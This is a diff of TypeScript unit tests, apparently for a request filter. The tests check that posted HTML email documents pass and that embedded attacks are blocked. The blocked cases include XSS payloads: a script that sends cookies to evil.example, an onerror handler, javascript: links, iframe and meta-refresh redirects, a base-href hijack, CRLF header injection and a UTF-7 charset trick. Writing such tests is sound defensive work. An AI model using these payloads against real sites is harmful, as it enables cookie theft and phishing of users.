@@ -83,3 +83,35 @@ describe("xss 3003: an SVG data URL of a picture that runs and loads nothing", (
     expect(blockedBy(h, post({ icon: uri }))).not.toBe("");
   });
 });
+
+describe("xss and protocol 1062: a whole HTML document as a value (a mail's or a page's HTML posted to an API)", () => {
+  // read as a body is: its head, title, meta and comments are its own; script, handlers, script URLs and
+  // elements that act (iframe, base, form, a meta refresh) still count
+  const mail = (body: string) =>
+    `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n<html xmlns="http://www.w3.org/1999/xhtml">\n<head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"/><meta name="viewport" content="width=device-width, initial-scale=1.0"/><title>{{subject}}</title><style type="text/css">body{margin:0}</style><!--[if mso]><style>table{border-collapse:collapse}</style><![endif]--></head>\n<body style="margin:0"><table role="presentation" width="100%"><tr><td style="font-family:Arial">${body}</td></tr></table></body>\n</html>\n`;
+  const send = (html: string): Req => ({ method: "POST", path: "/api/v1/mail/send", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ to: ["jane@example.com"], subject: "Your order", html }) });
+  it.each([
+    mail(`Hi {{first_name}}, your order <strong>#1042</strong> has shipped. <a href="https://shop.example.com/orders/1042?utm_source=email&amp;utm_medium=mail" style="color:#1a73e8">Track it</a>`),
+    `<?xml version="1.0" encoding="UTF-8"?>\n<html>\n<head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><title>libxslt</title><meta name="generator" content="GTK-Doc V1.33"></head>\n<body><p>The XSLT C library</p></body>\n</html>\n`,
+    `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">\n<HTML\n><HEAD\n><TITLE\n>Users and groups</TITLE\n><META\nNAME="GENERATOR"\nCONTENT="Modular DocBook HTML Stylesheet Version 1.79"></HEAD\n><BODY\n><P>Text</P></BODY\n></HTML\n>`,
+    `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Release notes</title></head><body><h1>Changes</h1></body></html>`,
+  ])("passes %#", (html) => {
+    expect(blockedBy(h, send(html))).toBe("");
+  });
+  it.each([
+    [mail(`<script>fetch("//evil.example/?c="+document.cookie)</script>`), 3001],
+    [mail(`<img src=x onerror=alert(1)>`), 3002],
+    [mail(`<a href="javascript:alert(1)">Track it</a>`), 3003],
+    [mail(`<iframe src="//evil.example/phish"></iframe>`), 3001],
+    [`<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body></body></html>`, 3001],
+    [`<!DOCTYPE html><html><head><base href="//evil.example/"></head><body></body></html>`, 3001],
+  ])("blocks %#", (html, id) => {
+    expect(ids(send(html))).toContain(id);
+    expect(blockedBy(h, send(html))).not.toBe("");
+  });
+  it("still blocks a document behind an injected head, markup that is no whole document, and a meta charset in a fragment", () => {
+    expect(ids(send("x\r\nContent-Type: text/html\r\n\r\n<html><body>hi</body></html>"))).toContain(1062);
+    expect(blockedBy(h, send(`<meta http-equiv="Content-Type" content="text/html; charset=UTF-7"><p>hi</p>`))).not.toBe("");
+    expect(blockedBy(h, send(`<title>x</title></head><body><p>hi</p></body></html>`))).not.toBe("");
+  });
+});
